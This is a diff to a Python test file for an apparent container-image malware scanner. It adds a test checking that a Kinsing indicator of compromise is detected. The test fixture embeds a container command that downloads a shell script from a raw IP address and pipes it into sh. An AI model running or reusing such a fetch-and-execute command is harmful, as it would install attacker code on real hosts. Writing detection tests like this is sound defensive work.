@@ -261,3 +261,10 @@ def test_pool_evidence_beside_a_miner_combines(tmp_path: Path) -> None:
     (combined,) = _by_rule(report, "context.miner-evidence-combined")
     assert "miner.xmrig-binary" in combined.message
     assert report.verdict is not Verdict.CLEAN
+
+
+def test_indicator_in_the_config_command(tmp_path: Path) -> None:
+    config = {"config": {"Cmd": ["/bin/sh", "-c", "wget -q -O - 142.44.191.122/d.sh | sh; tail -f /dev/null"]}}
+    report = _vet(tmp_path, [tar_layer({"etc/os-release": b"ID=ubuntu\n"})], PROJECT_ROOT / "rules", config)
+    (ioc,) = _by_rule(report, "ioc.kinsing")
+    assert "142.44.191.122" in (ioc.evidence or "") and ioc.path is None
